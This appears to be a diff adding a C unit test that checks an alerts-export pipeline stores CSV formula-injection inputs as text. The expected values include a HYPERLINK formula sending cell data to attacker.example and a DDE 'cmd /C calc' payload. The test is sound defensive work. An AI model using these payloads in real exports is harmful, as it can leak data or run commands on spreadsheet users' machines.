@@ -217,6 +217,38 @@ static void corpus_spreadsheet_paths(void **state)
                      SOCC_E_INVALID_FILE_TYPE);
 }
 
+/* Case 010: formula-like text is stored as text, the delta as numbers. */
+static void case_010_formula_text(void **state)
+{
+    struct fx *f = *state;
+    struct pipeline_output out;
+    struct socc_error e;
+    struct buf b;
+
+    if (run_shared(f, "cases/010-csv-formula-injection/alerts_export.csv",
+                   "alerts_export.csv", &out, &e) < 0) {
+        printf("SKIP: ../shared not found (set SOCC_SHARED)\n");
+        skip();
+    }
+    assert_int_equal(out.upload.record_count, 4);
+    buf_init(&b);
+    assert_int_equal(store_records_json(f->st, out.upload.id, -1, 10, 0, &b,
+                                        &e), SOCC_OK);
+    assert_non_null(strstr(b.data, "{\"id\":1,\"user\":\"=HYPERLINK(\\\""
+                                   "http://attacker.example/?x=\\\"&A1,\\\""
+                                   "click\\\")\",\"comment\":\"ok\","
+                                   "\"delta\":-5}"));
+    assert_non_null(strstr(b.data, "{\"id\":2,\"user\":\"+SUM(1+1)*cmd|' "
+                                   "/C calc'!A0\",\"comment\":\"=1+2\","
+                                   "\"delta\":7}"));
+    assert_non_null(strstr(b.data, "{\"id\":3,\"user\":\"@SUM(A1:A2)\","
+                                   "\"comment\":\"-2+3\",\"delta\":-0.5}"));
+    assert_non_null(strstr(b.data, "{\"id\":4,\"user\":\"\\t=1+1\","
+                                   "\"comment\":\"normal text\","
+                                   "\"delta\":12}"));
+    buf_release(&b);
+}
+
 static void safe_names(void **state)
 {
     static const struct {
@@ -260,6 +292,8 @@ int main(void)
         cmocka_unit_test_setup_teardown(field_limit_is_limit_exceeded, setup,
                                         teardown),
         cmocka_unit_test_setup_teardown(corpus_spreadsheet_paths, setup,
+                                        teardown),
+        cmocka_unit_test_setup_teardown(case_010_formula_text, setup,
                                         teardown),
         cmocka_unit_test(safe_names),
     };
